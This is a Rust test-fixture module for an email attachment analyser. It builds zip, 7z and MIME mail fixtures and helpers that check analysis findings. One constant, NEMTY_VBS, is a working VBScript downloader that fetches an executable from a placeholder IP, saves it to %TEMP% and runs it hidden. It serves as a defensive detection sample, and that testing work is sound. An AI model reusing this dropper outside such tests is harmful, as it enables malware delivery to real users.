//! Fixture builders shared by the artifact tests. Everything is built at
//! test time; nothing here is real malware.
#![allow(dead_code)]

use std::io::{Cursor, Write};

use base64::Engine as _;
use mozu_mail::{Limits, parse_eml_parts, source};
use mozu_model::{Artifact, MessageRecord, SourceFormat};
use zip::unstable::write::FileOptionsExt;
use zip::write::SimpleFileOptions;

/// A Nemty-style downloader (seed 002): fetch an .exe from an IP literal
/// and run it.
pub const NEMTY_VBS: &str = "Dim x: Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
x.Open \"GET\", \"http://203.0.113.10/nemty.exe\", False: x.Send\r\n\
Set s = CreateObject(\"ADODB.Stream\"): s.Type = 1: s.Open: s.Write x.responseBody\r\n\
s.SaveToFile \"%TEMP%\\\\a.exe\", 2\r\n\
CreateObject(\"WScript.Shell\").Run \"%TEMP%\\\\a.exe\", 0\r\n";

/// A zip of (name, bytes) entries, optionally encrypted.
pub fn zip(entries: &[(&str, &[u8])], password: Option<(&str, bool)>) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in entries {
        let opts = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
        let opts = match password {
            Some((pw, true)) => opts.with_aes_encryption(zip::AesMode::Aes256, pw),
            Some((pw, false)) => opts.with_deprecated_encryption(pw.as_bytes()).unwrap(),
            None => opts,
        };
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// A 7z archive of one entry.
pub fn sevenz(name: &str, data: &[u8]) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    let mut w = sevenz_rust2::ArchiveWriter::new(&mut out).unwrap();
    let entry = sevenz_rust2::ArchiveEntry::new_file(name);
    w.push_archive_entry(entry, Some(data)).unwrap();
    w.finish().unwrap();
    out.into_inner()
}

/// A mail with one base64 attachment.
pub fn mail_with(subject: &str, body: &str, name: &str, ctype: &str, data: &[u8]) -> Vec<u8> {
    let b64 = base64::engine::general_purpose::STANDARD.encode(data);
    let wrapped: Vec<&str> = b64
        .as_bytes()
        .chunks(76)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    format!(
        "From: =?UTF-8?B?{}?= <sender@example.net>\r\nTo: victim@example.co.jp\r\nSubject: =?UTF-8?B?{}?=\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"XX\"\r\n\r\n--XX\r\n\
Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--XX\r\n\
Content-Type: {ctype}\r\nContent-Disposition: attachment; filename*=UTF-8''{}\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--XX--\r\n",
        base64::engine::general_purpose::STANDARD.encode("経理部"),
        base64::engine::general_purpose::STANDARD.encode(subject),
        base64::engine::general_purpose::STANDARD.encode(body),
        pct(name),
        wrapped.join("\r\n"),
    )
    .into_bytes()
}

fn pct(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b == b'.' || b == b'_' || b == b'-' {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Parses and analyses a mail.
pub fn analyse(raw: &[u8]) -> MessageRecord {
    let parsed = parse_eml_parts(raw, source("test.eml", SourceFormat::Eml, None), &Limits::default());
    mozu_artifact::analyse_message(parsed, &[], &mozu_artifact::Options::default(), None)
}

/// The artifact at `path`.
pub fn at<'a>(rec: &'a MessageRecord, path: &str) -> &'a Artifact {
    rec.artifacts.iter().find(|a| a.path == path).unwrap_or_else(|| {
        let paths: Vec<&str> = rec.artifacts.iter().map(|a| a.path.as_str()).collect();
        panic!("no artifact {path}; have {paths:?}")
    })
}

/// True when the artifact has a finding `id`.
pub fn has(a: &Artifact, id: &str) -> bool {
    a.findings.iter().any(|f| f.id == id)
}

/// SHA-256 of bytes.
pub fn sha256(data: &[u8]) -> String {
    mozu_artifact::hashes::sha256_hex(data)
}
